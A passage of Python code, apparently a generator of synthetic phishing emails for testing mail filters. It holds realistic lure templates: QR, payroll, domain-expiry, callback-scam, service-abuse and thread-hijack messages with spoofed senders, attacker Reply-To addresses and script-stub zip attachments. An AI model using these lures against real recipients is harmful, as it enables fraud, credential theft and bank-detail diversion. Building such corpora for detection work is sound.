            "The code expires in 24 hours.",
        ]
        brand = "Microsoft 365"
    elif k == 1:
        subj = r.choice(
            [
                f"{ORG}: {dt.year} Salary increase - review document",
                "Q4 Bonus payout - scan to review",
                "Compensation update for your role",
            ]
        )
        lines = [
            f"Hello {p.first},",
            f"HR has shared your updated compensation statement for {dt.year}. For security, the document can only be opened on a mobile device.",
            "Scan the QR code to view and acknowledge.",
        ]
        brand = f"{DOM} HR"
    elif k == 2:
        subj = r.choice(
            [
                "Please DocuSign: Signed agreement",
                "Document pending signature (mobile)",
                "Complete with DocuSign",
            ]
        )
        lines = [
            "A document has been sent to you for signature.",
            "Scan the QR code with your smartphone to review and sign.",
            f"Envelope ID: {rs(r, 8, UHEX)}-{rs(r, 4, UHEX)}-{rs(r, 4, UHEX)}",
        ]
        brand = "DocuSign"
    elif k == 3:
        subj = r.choice(["Voicemail received - scan to listen", "New voice message (0:47)"])
        lines = ["You have a new voicemail.", "Scan the QR code to listen on your phone."]
        brand = "Voicemail"
    else:
        subj = r.choice(
            [
                "Parking fine - scan to pay",
                "Your car park session: unpaid",
                "Penalty Charge Notice - pay by QR",
            ]
        )
        lines = [
            "A Parking Charge Notice was issued to your vehicle.",
            "Scan the QR to pay the reduced amount of £35 within 14 days.",
        ]
        brand = "Parking Services"
    name = r.choice(
        [
            "qrcode.png",
            f"image{r.randint(1, 9)}.png",
            f"{rs(r, 8, LOWER)}.png",
            "secure_qr.png",
            f"QR_{p.first}.png",
        ]
    )
    style = r.randrange(3)
    body_html = "".join(f"<p>{esc(ln)}</p>" for ln in lines)
    if style == 0:
        htm = f'<html><body style=\'font-family:Arial\'>{body_html}<p><img src="cid:{cid}" width="200" height="200" alt=""></p><p style=\'font-size:11px;color:#777\'>{esc(brand)}</p></body></html>'
        ent = multi(
            r,
            "related",
            [
                html(htm, "utf-8", r.choice(["quoted-printable", "base64"])),
                attach(name, "image/png", img, inline=True, cid=cid),
            ],
            '; type="text/html"',
        )
    elif style == 1:
        ent = multi(
            r,
            "mixed",
            [
                plain("\n\n".join(lines) + "\n\nSee the attached QR code.\n", "utf-8", "7bit"),
                attach(name, "image/png", img),
            ],
        )
    else:
        data = base64.b64encode(img).decode()
        htm = f'<html><body>{body_html}<table><tr><td style=\'padding:10px;border:1px solid #ccc\'><img src="data:image/png;base64,{data}" width="180"></td></tr></table></body></html>'
        ent = html(htm, "utf-8", "base64")
    hs = std(
        addr(r.choice([brand, f"{brand} Support", "IT Service Desk", f"{DOM} Administrator"]), frm),
        to,
        subj,
        dt,
        mid(r, rt.from_dom),
    )
    return deliver(r, rt, rcpt, dt, hs, ent)


# ---- HR and payroll lures -----------------------------------------------------------------------


def f_hr(r: random.Random, i: int) -> bytes:
    p = victim(r, [s for s in STAFF if s is not HRP])
    dt = rdate(r)
    k = i % 5
    url = landing(r, "hr", p.email)
    disp = r.choice(
        [
            f"HR Department {DOM}",
            "Human Resources",
            f"{ORG} HR",
            "Payroll Team",
            f"{HRP.name} (HR)",
            "HR Portal",
            "People Team",
        ]
    )
    k2 = r.randrange(3)
    if k2 == 0:
        rt = r_spoof(r, DOM, "quarantine")
        frm = f"{r.choice(['hr', 'payroll', 'people'])}@{DOM}"
    elif k2 == 1:
        rt, frm = sender_any(
            r,
            "adp.com",
            local=r.choice(["hr", "payroll", "benefits"]),
            stem=r.choice(["hr-portal", "payroll-docs", "employee-benefits"]),
        )
    else:
        rt = r_compromised(r, r.choice(COMPROMISED), "hr")
        frm = rt.envelope
    rcpt, to = recipients(r, p, 0.35, frm)
    if k == 0:
        subj = r.choice(
            [
                f"Salary adjustment {dt.year} - {p.first} {p.last}",
                "Confidential: salary review outcome",
                f"{p.first}, your pay increase letter",
                "Payroll Adjustment Notification",
            ]
        )
        blocks = [
            f"Dear {p.first},",
            f"Following the annual compensation review, your salary has been adjusted effective {ldate(dt + timedelta(days=14))}. Please review and acknowledge the attached letter.",
            ("btn", "View salary letter", url, f"https://{DOM}/hr/salary"),
            "This information is confidential.",
            f"Regards,\nHuman Resources\n{ORG}",
        ]
    elif k == 1:
        subj = r.choice(
            [
                f"Updated Employee Handbook {dt.year} - signature required",
                "Policy update: please read and sign",
                "Revised Code of Conduct - acknowledgement due",
            ]
        )
        blocks = [
            ("h", "Employee Handbook"),
            f"The {ORG} Employee Handbook has been updated. All staff are required to read and sign the acknowledgement by {ldate(dt + timedelta(days=3))}.",
            ("btn", "Review & sign", url, "https://www.docusign.net/"),
            "Failure to sign may delay payroll processing.",
        ]
    elif k == 2:
        subj = r.choice(
            [
                f"Open Enrolment {dt.year + 1}: action required",
                "Benefits enrolment closes Friday",
                "Your pension and benefits selections",
            ]
        )
        blocks = [
            ("h", "Benefits enrolment"),
            f"Open enrolment for {dt.year + 1} benefits ends on {ldate(dt + timedelta(days=4))}. If you do not confirm your selections, your current benefits will lapse.",
            ("btn", "Confirm benefits", url, "https://benefits.adp.com/"),
            "HR Benefits Team",
        ]
    elif k == 3:
        subj = r.choice(
            [
                "Performance review scheduled",
                "Staff evaluation results",
                f"Termination review - {p.first} {p.last}",
                "Disciplinary meeting invitation",
            ]
        )
        blocks = [
            f"Hi {p.first},",
            r.choice(
                [
                    "Your performance review documents have been uploaded. Please review before your meeting with your line manager.",
                    "Your name appears on the list of staff affected by the upcoming restructure. Please review the attached details confidentially.",
                ]
            ),
            ("btn", "Open document", url, f"https://{DOMBASE}.sharepoint.com/hr"),
            disp,
        ]
    elif i == 9:
        lang = r.choice(["nl", "de"])
        if lang == "nl":
            subj = "Salarisstrook beschikbaar - actie vereist"
            blocks = [
                f"Beste {p.first},",
                "Uw salarisstrook en de nieuwe loonheffingsverklaring staan klaar. Log in met uw zakelijke e-mailadres om ze te bekijken en te ondertekenen.",
                ("btn", "Bekijk salarisstrook", url, "https://mijn.adp.com/"),
                "Afdeling HR",
            ]
        else:
            subj = "Gehaltsabrechnung verfügbar - Bestätigung erforderlich"
            blocks = [
                f"Hallo {p.first},",
                "Ihre Gehaltsabrechnung und die aktualisierte Arbeitszeitregelung stehen bereit. Bitte melden Sie sich mit Ihrer Firmen-E-Mail an und bestätigen Sie den Empfang.",
                ("btn", "Abrechnung ansehen", url, "https://mein.adp.com/"),
                "Personalabteilung",
            ]
        return lure(
            r,
            i,
            rt,
            rcpt,
            to,
            dt,
            addr(disp, frm),
            subj,
            blocks,
            f"{ORG} HR",
            "#1f4e79",
            [ORG],
            lang=lang,
            cs=r.choice(["utf-8", "iso-8859-1"]),
        )
    else:
        subj = r.choice(
            [
                "Your payslip is ready",
                f"Payslip for {dt:%B %Y}",
                "P60 available to download",
                "Holiday allowance update",
            ]
        )
        blocks = [
            ("h", "Payslip available"),
            f"Your payslip for {dt:%B %Y} is now available. Sign in with your company email to view it.",
            ("btn", "View payslip", url, "https://my.adp.com/"),
            "Payroll Services",
        ]
    return lure(
        r,
        i,
        rt,
        rcpt,
        to,
        dt,
        addr(disp, frm),
        subj,
        blocks,
        f"{ORG} HR",
        r.choice(["#2e7d32", "#5c2d91", "#1f4e79"]),
        [f"{ORG} | {ORG_ADDR}"],
    )


# ---- domain and hosting --------------------------------------------------------------------------


def f_domain(r: random.Random, i: int) -> bytes:
    p = r.choice([IT, MD, OFFICE])
    dt = rdate(r)
    k = i % 6 if i != 9 else 9
    url = landing(r, r.choice(["domain", "cpanel", "webmail", "google"]), p.email)
    rcpt = r.choice([p.email, f"admin@{DOM}", f"webmaster@{DOM}", f"info@{DOM}"])
    to = rcpt if r.random() < 0.7 else "undisclosed-recipients:;"
    if k == 0:
        brand, bdom, color = r.choice(
            [
                ("Domain Registrar", "domain-services.com", "#1a73e8"),
                ("GoDaddy", "godaddy.com", "#1bdbdb"),
                ("Namecheap", "namecheap.com", "#de3723"),
                ("123 Reg", "123-reg.co.uk", "#00a1e0"),
            ]
        )
        rt, frm = sender_any(
            r,
            bdom,
            local=r.choice(["renewals", "billing", "domains"]),
            stem=r.choice(["domain-renewal", "dns-services", "registrar-notice"]),
        )
        subj = r.choice(
            [
                f"Your domain {DOM} expires today",
                f"Final notice: {DOM} renewal failed",
                f"Domain Suspension Notification: {DOM}",
                f"{DOM} - payment declined, domain on hold",
            ]
        )
        blocks = [
            ("h", "Domain expiry notice"),
            f"Your domain name {DOM} expired on {ldate(dt)}. Your website and email services will stop working and the domain may be released for public registration.",
            (
                "kv",
                [
                    ("Domain", DOM),
                    ("Expiry", ldate(dt)),
                    ("Renewal", f"£{r.choice(['12.99', '18.99', '24.50'])}"),
                ],
            ),
            ("btn", "Renew now", url, f"https://www.{bdom}/renew?domain={DOM}"),
            "Auto-renewal failed because the payment method on file was declined.",
        ]
    elif k == 1:
        brand, bdom, color = "cPanel", "cpanel.net", "#ff6c2c"
        rt, frm = sender_any(
            r, DOM, local=r.choice(["cpanel", "root", "webmaster", "no-reply"]), stem="cpanel-notice"
        )
        subj = r.choice(
            [
                f"[cPanel] {DOM}: disk quota exceeded",
                f"cPanel: your account {DOMBASE[:8]} will be suspended",
                f"[{DOM}] Mailbox quota warning - {p.email}",
            ]
        )
        blocks = [
            ("h", "cPanel Notification"),
            f'The account "{DOMBASE[:8]}" has exceeded its disk quota. Incoming mail for {DOM} is being rejected.',
            ("btn", "Log in to cPanel", url, f"https://{DOM}:2083/"),
            f"Server: {r.choice(HOSTERS)}",
            "This notice is sent by cPanel on behalf of your hosting provider.",
        ]
    elif k == 2:
        brand, bdom, color = r.choice(
            [("SSL Services", "sectigo.com", "#0f5c97"), ("DigiCert", "digicert.com", "#0174c3")]
        )
        rt, frm = sender_any(r, bdom, local="ssl", stem="ssl-renewal")
        subj = r.choice(
            [
                f"SSL certificate for {DOM} has expired",
                f"Urgent: {DOM} SSL expired - visitors see security warning",
                f"SSL Renewal: {DOM}",
            ]
        )
        blocks = [
            ("h", "SSL Certificate Expired"),
            f"The SSL certificate for www.{DOM} has expired. Browsers will now show a 'Not Secure' warning to your visitors and email may be blocked.",
            ("btn", "Renew certificate", url, f"https://www.{bdom}/renew"),
            f"Order #{digits(r, 8)}",
        ]
    elif k == 3:
        brand, bdom, color = "Google Workspace", "google.com", "#4285f4"
        rt, frm = sender_any(r, "google.com", local="workspace-noreply", stem="workspace-admin")
        subj = r.choice(
            [
                f"Google Workspace: {DOM} subscription suspended",
                f"[Action required] Payment issue for {DOM}",
                f"Your Google Workspace account for {DOM} will be suspended",
            ]
        )
        blocks = [
            ("h", "Your Google Workspace subscription is suspended"),
            f"We couldn't charge your payment method for {DOM}. Your users will lose access to Gmail, Drive and Meet in 3 days.",
            ("btn", "Fix payment", url, "https://admin.google.com/ac/billing"),
            "Google LLC, 1600 Amphitheatre Parkway, Mountain View, CA 94043",
        ]
    elif k == 4:
        brand, bdom, color = r.choice(
            [
                ("Wix", "wix.com", "#116dff"),
                ("Squarespace", "squarespace.com", "#000000"),
                ("IONOS", "ionos.co.uk", "#003d8f"),
            ]
        )
        rt, frm = sender_any(r, bdom, local="support", stem=f"{bdom.split('.')[0]}-billing")
        subj = r.choice(
            [
                f"{brand}: your website {DOM} has been unpublished",
                f"{brand}: Premium plan payment failed",
                f"Your {brand} site will go offline",
            ]
        )
        blocks = [
            ("h", "Your site is offline"),
            f"We were unable to renew your {brand} premium plan for {DOM}. Update your billing details to reconnect your domain.",
            ("btn", "Update billing", url, f"https://www.{bdom}/billing"),
            f"The {brand} Team",
        ]
    elif i == 9:
        brand, bdom, color = "OVHcloud", "ovh.com", "#000e9c"
        rt, frm = sender_any(r, "ovh.com", local="support", stem="ovh-facturation")
        if r.random() < 0.5:
            subj = f"Votre nom de domaine {DOM} expire aujourd'hui"
            blocks = [
                ("h", "Renouvellement de domaine"),
                f"Le renouvellement automatique de {DOM} a échoué. Sans action de votre part, votre site et vos e-mails seront suspendus.",
                ("btn", "Renouveler maintenant", url, "https://www.ovh.com/manager/"),
                "OVHcloud - Service Facturation",
            ]
            lang = "fr"
        else:
            subj = f"Su dominio {DOM} ha caducado"
            blocks = [
                ("h", "Renovación de dominio"),
                f"No hemos podido renovar {DOM}. Su sitio web y su correo dejarán de funcionar en 24 horas.",
                ("btn", "Renovar ahora", url, "https://www.ovh.es/manager/"),
                "OVHcloud - Facturación",
            ]
            lang = "es"
        return lure(
            r,
            i,
            rt,
            rcpt,
            to,
            dt,
            addr("OVHcloud", frm),
            subj,
            blocks,
            brand,
            color,
            [],
            lang=lang,
            cs=r.choice(["utf-8", "iso-8859-1"]),
        )
    else:
        brand, bdom, color = "DNS Security", DOM, "#444444"
        rt = r_spoof(r, DOM, "quarantine")
        frm = f"postmaster@{DOM}"
        subj = r.choice(
            [
                f"{DOM} DNS records verification",
                f"SPF/DKIM verification failed for {DOM}",
                f"Your email domain {DOM} is blacklisted",
            ]
        )
        blocks = [
            ("h", "Email deliverability alert"),
            f"Our scan found that {DOM} is listed on {r.randint(3, 9)} blacklists. Outgoing messages from your domain are being rejected.",
            ("btn", "Delist domain", url, f"https://mxtoolbox.com/blacklists.aspx?domain={DOM}"),
            "Act within 24 hours to avoid permanent listing.",
        ]
    return lure(
        r,
        i,
        rt,
        rcpt,
        to,
        dt,
        addr(r.choice([brand, f"{brand} Support", f"{brand} Billing", f"{DOM} Administrator"]), frm),
        subj,
        blocks,
        brand,
        color,
        [f"Sent to {rcpt}"],
    )


# ---- SaaS security notices and callback (TOAD) scams ------------------------------------------


def phone_us(r: random.Random) -> str:
    return r.choice(
        [
            f"+1 (8{r.choice('045678')}{r.randint(0, 9)}) 555-01{r.randint(10, 99)}",
            f"+1-8{r.choice('045678')}{r.randint(0, 9)}-555-01{r.randint(10, 99)}",
            f"+44 808 157 0{digits(r, 3)}",
            f"1 8{r.choice('045678')}{r.randint(0, 9)} 555 01{r.randint(10, 99)}",
        ]
    )


def f_saas(r: random.Random, i: int) -> bytes:
    p = victim(r)
    dt = rdate(r)
    k = i % 6
    phone = phone_us(r)
    amt = f"${r.choice(['299.99', '349.99', '499.00', '389.49', '599.99', '449.95'])}"
    inv = f"{rs(r, 3, string.ascii_uppercase)}{digits(r, 8)}"
    if k == 0:
        brand, bdom, color = r.choice(
            [
                ("Norton LifeLock", "norton.com", "#ffc700"),
                ("McAfee", "mcafee.com", "#c01818"),
                ("Geek Squad", "geeksquad.com", "#0046be"),
                ("Best Buy Geek Squad", "geeksquad.com", "#0046be"),
            ]
        )
        rt, frm = sender_any(
            r,
            bdom,
            local=r.choice(["billing", "support", "invoice", "order"]),
            stem=r.choice(["renewal-dept", "subscription-center", "billing-desk"]),
        )
        subj = r.choice(
            [
                f"Your {brand} subscription has been renewed - Invoice {inv}",
                f"Order Confirmation #{inv}",
                f"Auto-renewal successful: {amt} charged",
                "Thank you for your payment",
            ]
        )
        text = f"Dear Customer,\n\nThank you for renewing your {brand} Total Protection subscription. Your account has been charged {amt} for 3 years of protection on 5 devices.\n\nInvoice: {inv}\nDate: {sdate(dt)}\nAmount: {amt}\nPayment: Auto-debit\n\nIf you did not authorise this renewal or wish to cancel and receive a full refund, please call our billing department within 24 hours:\n\n{phone}\n\nRegards,\n{brand} Billing Team\n"
        if r.random() < 0.5:
            att = [
                attach(
                    f"Invoice_{inv}.pdf",
                    PDF,
                    fake_pdf(
                        r,
                        f"{brand} - INVOICE {inv}",
                        [f"Total Protection 3-Year Plan: {amt}", f"Questions? Call {phone}"],
                    ),
                )
            ]
            text = f"Hello,\n\nPlease find your invoice attached. For cancellation or refund, call {phone}.\n\n{brand}\n"
        else:
            att = []
        rcpt, to = recipients(r, p, 0.5, frm)
        return letter(
            r,
            rt,
            rcpt,
            to,
            dt,
            addr(r.choice([brand, f"{brand} Billing", f"{r.choice(FIRST)} {r.choice(LAST)}"]), frm),
            subj,
            text,
            attachments=att,
            with_html=r.random() < 0.4,
        )
    if k == 1:
        brand, bdom, color = "PayPal", "paypal.com", "#003087"
        rt, frm = sender_any(r, bdom, local="service", stem="paypal-billing")
        subj = r.choice(
            [
                f"You sent a payment of {amt} USD to Coinbase Inc.",
                f"Receipt for your payment to {r.choice(['Bitcoin Xchange', 'Coinbase Inc.', 'Kraken Digital'])}",
                "Your PayPal purchase of Bitcoin",
            ]
        )
        blocks = [
            ("h", "You've sent a payment"),
            (
                "kv",
                [
                    ("Transaction ID", rs(r, 17, string.ascii_uppercase + string.digits)),
                    ("Amount", amt + " USD"),
                    ("Merchant", "BTC Purchase"),
                ],
            ),
            f"If you did not authorise this transaction, contact PayPal support immediately on {phone}.",
            "Do not reply to this email.",
        ]
    elif k == 2:
        brand, bdom, color = "Zoom", "zoom.us", "#0b5cff"
        url = landing(r, "zoom", p.email)
        rt, frm = sender_any(r, bdom, local="no-reply", stem="zoom-meet")
        subj = r.choice(
            [
                "Your Zoom account has been suspended",
                "You missed a Zoom meeting - recording available",
                "Zoom: please reactivate your account",
                f"Meeting invitation from {r.choice(FIRST)} {r.choice(LAST)}",
            ]
        )
        blocks = [
            ("h", "Zoom account notice"),
            r.choice(
                [
                    "Your Zoom account has been temporarily suspended due to a billing issue. Sign in to reactivate.",
                    "A cloud recording of a meeting you were invited to is now available.",
                ]
            ),
            (
                "btn",
                r.choice(["Reactivate", "View recording", "Join meeting"]),
                url,
                "https://zoom.us/signin",
            ),
            "Copyright ©2025 Zoom Communications, Inc.",
        ]
    elif k == 3:
        brand, bdom, color = "Slack", "slack.com", "#4a154b"
        url = landing(r, "slack", p.email)
        rt, frm = sender_any(r, bdom, local="feedback", stem="slack-team")
        subj = r.choice(
            [
                f"[Slack] New sign-in to {DOMBASE}.slack.com",
                "Your Slack workspace will be deactivated",
                f"{r.choice(FIRST)} sent you a direct message on Slack",
            ]
        )
        blocks = [
            ("h", "Security alert"),
            f"We noticed a sign-in to the {DOMBASE} workspace from a new device. If this wasn't you, reset your password. You can also call our trust team on {phone}.",
            ("btn", "Reset password", url, f"https://{DOMBASE}.slack.com/reset"),
            "Slack Technologies, LLC, 500 Howard Street, San Francisco, CA 94105",
        ]
    elif k == 4:
        brand, bdom, color = r.choice(
            [("Adobe", "adobe.com", "#eb1000"), ("DocuSign", "docusign.com", "#1e4ca1")]
        )
        url = landing(r, bdom.split(".")[0], p.email)
        rt, frm = sender_any(r, bdom, local="account", stem=f"{bdom.split('.')[0]}-account")
        subj = r.choice(
            [
                f"Your {brand} account password was reset",
                f"{brand}: verify your email to keep your account",
                f"{brand} subscription renewed - {amt}",
            ]
        )
        blocks = [
            ("h", f"{brand} account security"),
            f"Your {brand} account password was reset on {ldate(dt)}. If you didn't make this change, secure your account now or call {phone}.",
            ("btn", "Secure account", url, f"https://account.{bdom}/"),
            f"© {dt.year} {brand}",
        ]
    else:
        brand, bdom, color = r.choice(
            [
                ("Microsoft Support", "microsoft.com", "#0078d4"),
                ("Amazon", "amazon.com", "#ff9900"),
                ("Apple Support", "apple.com", "#000000"),
            ]
        )
        rt, frm = sender_any(r, bdom, local="order-update", stem=f"{bdom.split('.')[0]}-orders")
        subj = r.choice(
            [
                f"Order #{inv} confirmed - {amt}",
                "Your subscription to Windows Defender Premium",
                "Apple Care+ purchase confirmation",
            ]
        )
        blocks = [
            ("h", "Order confirmation"),
            (
                "kv",
                [
                    (
                        "Product",
                        r.choice(
                            [
                                "Windows Defender Firewall Premium",
                                "AppleCare+ for MacBook Pro",
                                "Amazon Prime Annual",
                            ]
                        ),
                    ),
                    ("Amount", amt),
                    ("Invoice", inv),
                ],
            ),
            f"If you did not place this order, please call {phone} to cancel. Your refund will be processed within 2 hours.",
            "Thank you for shopping with us.",
        ]
    rcpt, to = recipients(r, p, 0.5, frm)
    return lure(
        r,
        i,
        rt,
        rcpt,
        to,
        dt,
        addr(r.choice([brand, f"{brand} Team", f"{brand} Support"]), frm),
        subj,
        blocks,
        brand,
        color,
        [f"{brand}"],
    )


# ---- abuse of genuine services -------------------------------------------------------------------


def f_service_abuse(r: random.Random, i: int) -> bytes:
    p = victim(r)
    dt = rdate(r)
    k = i % 6
    phone = phone_us(r)
    sname = f"{r.choice(FIRST)} {r.choice(LAST)}"
    attacker = f"{rs(r, 8, ALPHA)}{digits(r, 2)}@{r.choice(['gmail.com', 'outlook.com', 'hotmail.com'])}"
    rcpt, to = p.email, p.email
    if k == 0:
        rt = r_service(r, "google")
        form = f"https://docs.google.com/forms/d/e/1FAIpQL{rs(r, 49, URLSAFE)}/viewform?usp=mail_form_link"
        title = r.choice(
            [
                f"{DOM} Mailbox Verification",
                "Microsoft 365 Account Validation",
                "Employee Payroll Update Form",
                "Storage Upgrade Request",
            ]
        )
        subj = title
        blocks = [
            ("h", title),
            f"Your {DOM} mailbox requires revalidation. Fill in the form below with your current email and password to avoid deactivation.",
            ("btn", "FILL OUT FORM", form),
            "Never submit passwords through Google Forms. Report abuse",
            "Google Forms: Create and analyze surveys.",
        ]
        frm = addr(
            r.choice(["Google Forms", f"{DOM} Admin (via Google Forms)"]), "forms-receipts-noreply@google.com"
        )
        extra = [("Reply-To", attacker)]
        return lure(
            r,
            i,
            rt,
            rcpt,
            to,
            dt,
            frm,
            subj,
            blocks,
            "Google Forms",
            "#673ab7",
            [],
            extra,
            mode="",
            msgid=f"<{rs(r, 22, ALNUM)}@google.com>",
        )
    if k == 1:
        rt = r_service(r, "paypal")
        amt = f"${r.choice(['499.99', '599.00', '749.99', '899.00'])}"
        subj = r.choice(
            [
                f"Request for payment of {amt} USD from {sname}",
                f"You've got an invoice from {r.choice(['Billing Department', 'Norton Support', 'Crypto Services LLC'])}",
                f"Invoice from {sname} (0{digits(r, 4)})",
            ]
        )
        note = f"Seller note: Your PayPal account was charged {amt} for Bitcoin purchase. If you did not authorise this, call our dispute department at {phone} immediately to cancel and get a refund."
        blocks = [
            ("h", f"{sname} sent you an invoice"),
            (
                "kv",
                [
                    ("Amount due", amt + " USD"),
                    ("Invoice number", digits(r, 6)),
                    ("Due date", usdate(dt + timedelta(days=1))),
                ],
            ),
            note,
            (
                "btn",
                "View and Pay Invoice",
                f"https://www.paypal.com/invoice/p/#{rs(r, 24, string.ascii_uppercase + string.digits)}",
            ),
            "Don't recognize this invoice? Report it to PayPal.",
        ]
        to = addr(p.name, p.email) if r.random() < 0.5 else f"{rs(r, 6, ALPHA)}@{throwaway(r)}"
        return lure(
            r,
            i,
            rt,
            rcpt,
            to,
            dt,
            addr("service@paypal.com", "service@paypal.com"),
            subj,
            blocks,
            "PayPal",
            "#003087",
            ["PayPal is committed to preventing fraudulent emails."],
            mode="",
            msgid=f"<{rs(r, 16, HEX)}.{digits(r, 10)}@paypal.com>",
        )
    if k == 2:
        rt = r_service(r, "dropbox")
        fname = r.choice(
            [
                "Remittance Advice.pdf",
                f"{ORG} - Payment Confirmation",
                f"Shared Invoice {digits(r, 5)}",
                "Scan_Doc_Secure",
            ]
        )
        subj = f'{sname} shared "{fname}" with you'
        blocks = [
            ("h", f"{sname} shared a file with you"),
            f'"{sname}" ({attacker}) invited you to view the file "{fname}" on Dropbox.',
            (
                "btn",
                "View file",
                f"https://www.dropbox.com/scl/fi/{rs(r, 21, LOWER)}/{urllib.parse.quote(fname)}?rlkey={rs(r, 25, LOWER)}&dl=0",
            ),
            "Enjoy!\nThe Dropbox team",
        ]
        return lure(
            r,
            i,
            rt,
            rcpt,
            to,
            dt,
            addr(f"{sname} (via Dropbox)", "no-reply@dropbox.com"),
            subj,
            blocks,
            "Dropbox",
            "#0061fe",
            [],
            [("Reply-To", attacker)],
            mode="",
            msgid=f"<{rs(r, 24, ALNUM)}@dropbox.com>",
        )
    if k == 3:
        rt = r_service(r, "docusign")
        doc = docname(r, dt)
        link = landing(r, "docusign", p.email)
        subj = f"Complete with Docusign: {doc}.pdf"
        blocks = [
            ("h", f"{sname} sent you a document to review and sign."),
            (
                "btn",
                "REVIEW DOCUMENT",
                f"https://na{r.randint(2, 4)}.docusign.net/Signing/EmailStart.aspx?a={rs(r, 8, HEX)}-{rs(r, 4, HEX)}-{rs(r, 4, HEX)}-{rs(r, 4, HEX)}-{rs(r, 12, HEX)}&acct={rs(r, 8, HEX)}&er={rs(r, 8, HEX)}",
            ),
            f"{sname}\n{attacker}",
            f"Message: Please find the secure remittance document. If the viewer does not load, use the alternate link: {link}",
            "Do Not Share This Email",
        ]
        return lure(
            r,
            i,
            rt,
            rcpt,
            to,
            dt,
            addr(f"{sname} via Docusign", "dse_NA4@docusign.net"),
            subj,
            blocks,
            "DocuSign",
            "#1e4ca1",
            ["Powered by Docusign"],
            [("Reply-To", attacker)],
            mode="",
            msgid=f"<{rs(r, 32, HEX)}@docusign.net>",
        )
    if k == 4:
        rt = r_service(r, "intuit")
        amt = f"£{r.randint(1800, 26000):,}.{r.randint(0, 99):02d}"
        subj = f"Invoice {digits(r, 4)} from {r.choice(COMPROMISED)[0]}"
        blocks = [
            ("h", "Your invoice is ready"),
            ("kv", [("Amount due", amt), ("Due", ldate(dt + timedelta(days=7)))]),
            f"Message from seller: Kindly find our invoice attached. Note our updated bank details below for this and all future payments. Questions: {phone}",
            (
                "btn",
                "Review and pay",
                f"https://connect.intuit.com/portal/app/CommerceNetwork/view/scs-v1-{rs(r, 64, HEX)}",
            ),
            "Powered by QuickBooks",
        ]
        return lure(
            r,
            i,
            rt,
            rcpt,
            to,
            dt,
            addr("QuickBooks", "quickbooks@notification.intuit.com"),
            subj,
            blocks,
            "QuickBooks",
            "#2ca01c",
            [],
            [("Reply-To", attacker)],
            mode="",
            msgid=f"<{rs(r, 24, ALNUM)}@intuit.com>",
        )
    rt = r_service(r, r.choice(["canva", "notion"]))
    svc = "Canva" if rt.from_dom == "canva.com" else "Notion"
    link = (
        f"https://www.canva.com/design/DAG{rs(r, 8, URLSAFE)}/{rs(r, 22, URLSAFE)}/view"
        if svc == "Canva"
        else f"https://{rs(r, 8, LOWER)}.notion.site/{rs(r, 32, HEX)}"
    )
    subj = f'{sname} shared "{ORG} - Secure Document" with you'
    blocks = [
        (
            "h",
            f"{sname} invited you to view a design" if svc == "Canva" else f"{sname} invited you to a page",
        ),
        f'"{ORG} - Payment Remittance" — open to view the secure file.',
        ("btn", "Open", link),
        f"Sent by {svc}",
    ]
    return lure(
        r,
        i,
        rt,
        rcpt,
        to,
        dt,
        addr(f"{sname} via {svc}", rt.envelope if svc == "Notion" else "share@engage.canva.com"),
        subj,
        blocks,
        svc,
        "#00c4cc" if svc == "Canva" else "#000000",
        [],
        mode="",
        msgid=f"<{rs(r, 24, ALNUM)}@{rt.from_dom}>",
    )


# ---- reply-chain (thread) hijack from compromised mailboxes ------------------------------------


def f_thread_hijack(r: random.Random, i: int) -> bytes:
    p = victim(r)
    dt = rdate(r)
    k = i % 5
    org = r.choice(COMPROMISED)
    who = f"{r.choice(FIRST)} {r.choice(LAST)}"
    local = (
        f"{who.split()[0].lower()}.{who.split()[1].lower().replace(' ', '')}"
        if r.random() < 0.5
        else who.split()[0].lower()
    )
    rt = r_compromised(r, org, local)
    old = dt - timedelta(days=r.randint(30, 700))
    topic = r.choice(
        [
            "Topographic survey - Ashgrove Farm",
            "Boundary dispute - Plot 14",
            "Party wall survey quote",
            "Drone survey dates",
            "Measured survey - Kings Yard",
            "Invoice query",
            "Site access arrangements",
            "Revised fee proposal",
        ]
    )
    quoted = f"-----Original Message-----\nFrom: {p.name} <{p.email}>\nSent: {old:%A, %d %B %Y %H:%M}\nTo: {who} <{local}@{org[1]}>\nSubject: {topic}\n\nHi {who.split()[0]},\n\n{r.choice(['Thanks for your email. We can be on site on Tuesday from 8am.', 'Please find our fee proposal attached. Let me know if you have any questions.', 'Could you send over the site plan when you get a chance?', 'Our invoice is attached, payment terms 30 days.'])}\n\nKind regards,\n{p.name}\n{p.title}\n{ORG}\n{ORG_PHONE}"
    extra: list[Header] = [
        ("In-Reply-To", f"<{rs(r, 28, UHEX)}@{rs(r, 10, UHEX)}.eurprd0{r.randint(1, 9)}.prod.outlook.com>"),
        ("References", f"<{rs(r, 28, UHEX)}@{rs(r, 10, UHEX)}.eurprd0{r.randint(1, 9)}.prod.outlook.com>"),
        ("Thread-Topic", topic),
    ]
    att: list[Ent] = []
    cs = "utf-8"
    if k == 0:
        link = r.choice(
            [
                kit_url(r, r.choice(COMPROMISED)[1]) + f"{rs(r, 4, LOWER)}.zip",
                hosted(r),
                f"https://{r.choice(COMPROMISED)[1]}/{rs(r, 3, LOWER)}/{rs(r, 4, LOWER)}.php?{rs(r, 5, LOWER)}={digits(r, 6)}",
            ]
        )
        text = f"Hello,\n\n{r.choice(['Please see the attached file and confirm.', 'Here is the document you requested.', 'See the updated information below.'])}\n\n{link}\n\nFile password: {digits(r, 3)}\n\n{quoted}\n"
    elif k == 1:
        name = r.choice(
            [f"{topic.split()[0]}_{digits(r, 4)}.zip", f"Doc_{digits(r, 6)}.zip", f"Scan{digits(r, 5)}.zip"]
        )
        att = [
            attach(
                name,
                ZIP,
                fake_zip(
                    {
                        name.replace(
                            ".zip", ".js"
                        ): f"var {rs(r, 5, ALPHA)}=WScript.CreateObject('MSXML2.XMLHTTP');//{rs(r, 80, ALNUM)}"
                    }
                )
                if r.random() < 0.5
                else fake_zip(
                    {
                        name.replace(
                            ".zip", ".wsf"
                        ): f'<job><script language="JScript">//{rs(r, 80, ALNUM)}</script></job>'
                    }
                ),
            )
        ]
        text = f"Good morning,\n\nAs requested, please find attached.\n\nRegards\n{who}\n\n{quoted}\n"
    elif k == 2:
        text = f"Hi {p.first},\n\nFollowing up on this. We've moved our files to a secure portal - please sign in with your work email to access the revised documents:\n\n{landing(r, 'onedrive', p.email)}\n\nThanks\n{who}\n\n{quoted}\n"
    elif k == 3:
        lang = r.choice(["de", "it", "nl"])
        link = kit_url(r, r.choice(COMPROMISED)[1])
        cs = r.choice(["utf-8", "iso-8859-1"])
        if lang == "de":
